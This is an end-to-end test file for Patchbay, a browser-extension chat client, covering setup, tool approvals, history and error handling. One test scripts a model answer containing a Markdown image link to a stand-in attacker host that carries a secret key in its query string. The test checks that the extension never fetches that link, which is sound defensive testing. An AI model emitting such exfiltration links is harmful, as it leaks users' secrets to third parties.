import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { beforeEach, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startDomainServers } from '../fixtures/domain-tools-server';
import { startFixtureServer, type FixtureServer } from '../fixtures/mcp-fixture-server';
import { startScriptedOpenAI, type ScriptedOpenAI } from '../fixtures/scripted-openai';
import { storedAnswer } from './chat-storage';
import { chooseScriptedModel, expectSettingsField, saveModelSettings } from './chat-setup';
import { closeAfterTest, requestFrom, freshExtensionPerTest } from './harness';
import { addEnabledServer } from './server-setup';

const session = freshExtensionPerTest();
let model: ScriptedOpenAI;
let fixture: FixtureServer;
let page: Page;
let serverId: string;

const request = <T>(type: string, payload?: unknown) =>
  requestFrom<T>(session, page, type, payload);

/** Saves model settings as the Settings form does, and reloads the panel to use them. */
async function switchModel(settings: Record<string, unknown>) {
  await saveModelSettings(page, settings);
  await page.reload();
}

async function ask(text: string) {
  await page.getByRole('button', { name: 'New chat', exact: true }).click();
  await page.getByRole('combobox', { name: 'Message' }).fill(text);
  await page.getByRole('button', { name: 'Send' }).click();
}

/** Every test: the scripted model and the fixture server, added and switched on. */
beforeEach(async () => {
  [model, fixture] = await Promise.all([
    startScriptedOpenAI().then(closeAfterTest),
    startFixtureServer().then(closeAfterTest),
  ]);
  page = await session.openSidePanel();
  serverId = await addEnabledServer(session, page, { name: 'Fixture', url: fixture.mcpUrl });
});

describe('chat on first run', () => {
  it('leads a new user through setup, asks before running a tool, and answers with its result', async () => {
    await page.getByRole('heading', { name: 'Welcome to Patchbay' }).waitFor();
    await page.getByLabel('OpenAI-compatible (Ollama, LM Studio, vLLM, OpenRouter…)').check();
    await page.getByLabel('Endpoint URL').fill(model.baseUrl);
    await page.getByRole('button', { name: 'Load models' }).click();
    await page.getByText('2 models found.').waitFor();
    await expect(page.getByLabel('Model', { exact: true }).inputValue()).resolves.toBe(
      'scripted-mini',
    );
    await session.screenshot(page, 'first-run-local-endpoint');
    await page.getByRole('button', { name: 'Start chatting' }).click();

    model.script(
      {
        type: 'tool-call',
        toolName: `${serverId}__create_event`,
        input: { title: 'Standup', schedule: { start: '2026-11-23T09:00:00Z' } },
      },
      { type: 'text', text: 'Done: **Standup** is on the calendar for 09:00.' },
    );
    await page
      .getByRole('combobox', { name: 'Message' })
      .fill('Put a standup on my calendar tomorrow at nine');
    await page.getByRole('button', { name: 'Send' }).click();

    const card = page.locator('.tool-card[data-tool-name="create_event"]');
    await card
      .locator('[data-tool-state="awaiting-approval"]')
      .or(card.and(page.locator('[data-tool-state="awaiting-approval"]')))
      .first()
      .waitFor();
    await expect(card.textContent()).resolves.toContain('Fixture');
    await session.screenshot(page, 'chat-approval');
    await card.getByRole('button', { name: 'Approve' }).click();

    await page.getByText('is on the calendar for 09:00.').waitFor();
    await expect(card.getAttribute('data-tool-state')).resolves.toBe('done');
    await card.getByText('Result').click();
    await card.getByText('Created "Standup" at 2026-11-23T09:00:00Z with 0 attendee(s).').waitFor();
    // The answer is Markdown, rendered: no raw asterisks.
    await page.locator('.markdown strong', { hasText: 'Standup' }).waitFor();
    await expect(page.getByText('**Standup**').count()).resolves.toBe(0);
    // The header (a long title, the browser switch, New chat) fits the panel's width.
    await expect(
      page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      ),
    ).resolves.toBe(0);
    await session.screenshot(page, 'chat-answer');

    const chatRequests = model.requests.filter((entry) => entry.api === 'chat');
    expect(chatRequests).toHaveLength(2);
    expect(chatRequests[0]!.toolNames).toEqual(
      expect.arrayContaining(
        ['echo', 'create_event', 'get_image'].map((name) => `${serverId}__${name}`),
      ),
    );
    expect(JSON.stringify(chatRequests[1]!.body)).toContain('with 0 attendee(s)');
  });
});

describe('chat with a model chosen', () => {
  beforeEach(async () => {
    await chooseScriptedModel(page, model.baseUrl);
    await page.reload();
  });

  it('restores the last conversation when the panel is reopened', async () => {
    model.script({ type: 'text', text: 'Standup is at **nine** tomorrow.' });
    await ask('When is standup?');
    await page.getByText('tomorrow.').waitFor();
    // The chat takes its title once it is saved; the finished answer's save lands a moment after
    // the answer shows.
    await page.locator('.conversation-switch-title', { hasText: /When is standup\?/ }).waitFor();
    await storedAnswer(page, 'tomorrow.');
    await page.reload();
    await page.getByText('tomorrow.').waitFor();
    await page.getByRole('button', { name: 'Chats', exact: true }).click();
    await page.getByRole('region', { name: 'Chats' }).getByText('When is standup?').waitFor();
  });

  it('edits and resends a question, regenerates an answer, renames and deletes chats', async () => {
    model.script({ type: 'text', text: 'Paris is the capital of France.' });
    await ask('What is the capital of Frnace?');
    await page.getByText('Paris is the capital of France.').waitFor();

    model.script({ type: 'text', text: 'Berlin is the capital of Germany.' });
    await page.locator('.message-user').getByRole('button', { name: 'Edit' }).click();
    await page
      .getByRole('textbox', { name: 'Edit message' })
      .fill('What is the capital of Germany?');
    await page.locator('.edit-message').getByRole('button', { name: 'Send' }).click();
    await page.getByText('Berlin is the capital of Germany.').waitFor();
    await expect(page.getByText('Paris is the capital of France.').count()).resolves.toBe(0);
    const edited = model.requests.at(-1)!;
    expect(JSON.stringify(edited.body)).toContain('capital of Germany');
    expect(JSON.stringify(edited.body)).not.toContain('Frnace');

    model.script({ type: 'text', text: 'Berlin, on the Spree.' });
    await page.getByRole('button', { name: 'Regenerate' }).click();
    await page.getByText('Berlin, on the Spree.').waitFor();
    await expect(page.getByText('Berlin is the capital of Germany.').count()).resolves.toBe(0);

    await page.getByRole('button', { name: 'Chats', exact: true }).click();
    const chats = page.getByRole('region', { name: 'Chats' });
    await chats.getByRole('button', { name: 'Actions for What is the capital of Frnace?' }).click();
    await chats.getByRole('list', { name: 'Today' }).waitFor();
    await session.screenshot(page, 'chat-list');
    await chats.getByRole('menuitem', { name: 'Rename' }).click();
    await chats.getByRole('textbox', { name: 'Chat title' }).fill('Capitals');
    await chats.getByRole('button', { name: 'Save' }).click();
    await chats.getByRole('button', { name: 'Capitals', exact: true }).waitFor();
    await chats.getByRole('button', { name: 'Actions for Capitals' }).click();
    await chats.getByRole('menuitem', { name: 'Delete' }).click();
    await chats
      .getByRole('button', { name: 'Capitals', exact: true })
      .waitFor({ state: 'detached' });
  });

  it('shows a failed tool call and lets the model read the error', async () => {
    model.script(
      { type: 'tool-call', toolName: `${serverId}__fail`, input: { reason: 'quota exceeded' } },
      { type: 'text', text: 'The tool failed because the quota is exceeded.' },
    );
    await ask('Try the failing tool');
    const card = page.locator('.tool-card[data-tool-name="fail"]');
    await card.getByRole('button', { name: 'Always allow this tool' }).click();
    await page.getByText('The tool failed because the quota is exceeded.').waitFor();
    await expect(card.getAttribute('data-tool-state')).resolves.toBe('failed');
    expect(JSON.stringify(model.requests.at(-1)!.body)).toContain('Failed: quota exceeded');

    // "Always allow" is remembered: the next call runs without asking.
    model.script(
      { type: 'tool-call', toolName: `${serverId}__fail`, input: { reason: 'again' } },
      { type: 'text', text: 'Failed again, as expected.' },
    );
    await ask('Once more');
    await page.getByText('Failed again, as expected.').waitFor();
  });

  it('says in words what a call of a tool marked destructive does, and offers no Always allow', async () => {
    const [notes] = await startDomainServers(1, 10);
    closeAfterTest(notes!);
    const notesId = await addEnabledServer(session, page, {
      name: 'Acme Notes',
      url: notes!.mcpUrl,
    });
    await page.reload();
    const remove = notes!.tools.find((name) => name.startsWith('delete_'))!;
    model.script(
      { type: 'tool-call', toolName: `${notesId}__${remove}`, input: { id: 'note-42' } },
      { type: 'text', text: 'It is deleted.' },
    );
    await ask('Delete note-42');
    const card = page.locator(`.tool-card[data-tool-name="${remove}"]`);
    const approve = card.getByRole('button', { name: 'Approve' });
    await approve.waitFor();
    await expect(card.locator('.approval-destructive').textContent()).resolves.toMatch(
      /^Deletes a .+\. Acme Notes marks this tool as one that deletes or overwrites, so Patchbay asks every time\.$/,
    );
    await expect(card.locator('.approval').textContent()).resolves.toContain('note-42');
    await expect(approve.getAttribute('class')).resolves.toBe('primary danger');
    await expect(
      card.getByRole('button', { name: 'Always allow this tool' }).count(),
    ).resolves.toBe(0);
    await session.screenshot(page, 'chat-approval-destructive');
    await approve.click();
    await page.getByText('It is deleted.').waitFor();
    expect(notes!.calls).toEqual([{ name: remove, arguments: { id: 'note-42' } }]);
  });

  it('stops a streaming answer and a running tool', async () => {
    model.script({ type: 'slow-text', text: 'This answer goes on and on ', delayMs: 100 });
    await ask('Talk slowly');
    await page.getByText('This answer goes on').first().waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByRole('button', { name: 'Send' }).waitFor();
    await expect.poll(() => model.requests.at(-1)!.aborted).toBe(true);
    await expect(page.locator('.chat-error').count()).resolves.toBe(0);

    model.script({
      type: 'tool-call',
      toolName: `${serverId}__slow_count`,
      input: { steps: 100, delayMs: 100 },
    });
    await ask('Count slowly');
    const card = page.locator('.tool-card[data-tool-name="slow_count"]');
    await card.getByRole('button', { name: 'Approve' }).click();
    await card.locator('[role="progressbar"]').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => fixture.cancellations, { timeout: 10_000 }).toBe(1);
    await expect(card.getAttribute('data-tool-state')).resolves.toBe('cancelled');
  });

  it('explains a rejected API key inline, with a retry', async () => {
    model.requiredApiKey = 'sk-right';
    // The browser itself logs the 401 response.
    session.expectConsoleError(
      /Failed to load resource: the server responded with a status of 401/,
    );
    await switchModel({
      provider: 'compatible',
      baseUrl: model.baseUrl,
      model: 'scripted-model',
      apiKey: 'sk-wrong',
    });
    await ask('Hello?');
    const error = page.locator('.chat-error');
    await error
      .getByText('The provider rejected the API key (HTTP 401). Check it in Settings.')
      .waitFor();
    await expect(error.getByRole('button', { name: 'Retry' }).isVisible()).resolves.toBe(true);
    await session.screenshot(page, 'chat-bad-key');
    // Its next step: Settings, with the key's field focused to type the right one.
    await error.getByRole('button', { name: 'Open Settings' }).click();
    await expectSettingsField(page, 'API key');
    await page.keyboard.press('Control+A');
    await page.keyboard.type('sk-right');
    // A key is saved once the endpoint lists its models with it (a short one on Load models);
    // Settings stays open.
    const form = page.getByRole('form', { name: 'Model settings' });
    await form.getByRole('button', { name: 'Load models' }).click();
    await form
      .getByRole('status')
      .getByText(/Saved\.$/)
      .waitFor();
    await page.getByRole('tab', { name: 'Chat', exact: true }).click();
    await page.getByRole('combobox', { name: 'Message' }).waitFor();
    model.script({ type: 'text', text: 'Hello with the right key.' });
    await ask('Hello again?');
    await page.getByText('Hello with the right key.').waitFor();
  });

  it('talks to OpenAI through the Responses API', async () => {
    await switchModel({
      provider: 'openai',
      baseUrl: model.baseUrl,
      model: 'scripted-model',
      apiKey: 'sk-test',
    });
    model.script(
      { type: 'tool-call', toolName: `${serverId}__get_weather`, input: { city: 'Oslo' } },
      { type: 'text', text: 'It is 21.5 °C and sunny in Oslo.' },
    );
    await ask('Weather in Oslo?');
    await page
      .locator('.tool-card[data-tool-name="get_weather"]')
      .getByRole('button', { name: 'Approve' })
      .click();
    await page.getByText('It is 21.5 °C and sunny in Oslo.').waitFor();
    const responses = model.requests.filter((entry) => entry.api === 'responses');
    expect(responses).toHaveLength(2);
    expect(JSON.stringify(responses[1]!.body)).toContain('sunny');
  });

  it('loads nothing a model answer points at: a remote image stays a link until clicked', async () => {
    const seen: string[] = [];
    const attacker = createServer((incoming, outgoing) => {
      seen.push(incoming.url ?? '');
      outgoing.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    closeAfterTest({
      close: () => {
        attacker.closeAllConnections();
        return new Promise<void>((resolve) => attacker.close(() => resolve()));
      },
    });
    const { port } = attacker.address() as AddressInfo;
    const leak = `http://attacker.localhost:${port}/pixel.png?d=sk-secret`;
    model.script({ type: 'text', text: `Here is your chart: ![chart](${leak}) Enjoy.` });
    await ask('Draw my chart');
    await page.getByText('Enjoy.').waitFor();
    const link = page.locator('.markdown a.image-link', { hasText: '[chart]' });
    await expect(link.getAttribute('href')).resolves.toBe(leak);
    await expect(page.locator(`img[src*="attacker.localhost"]`).count()).resolves.toBe(0);
    // Give the page a full round trip to the worker and back before concluding nothing came.
    await request('mcp/servers/get');
    expect(seen).toEqual([]);
  });

  it('says so when a chat cannot be saved, instead of losing it silently', async () => {
    await page.evaluate(() => {
      IDBObjectStore.prototype.put = () => {
        throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
      };
    });
    model.script({ type: 'text', text: 'Noted, but not kept.' });
    await ask('Remember this');
    await page.getByText('Noted, but not kept.').waitFor();
    await page
      .getByRole('alert')
      .getByText(/Browser storage is full, so new messages in this chat are not being saved/)
      .waitFor();
  });
});
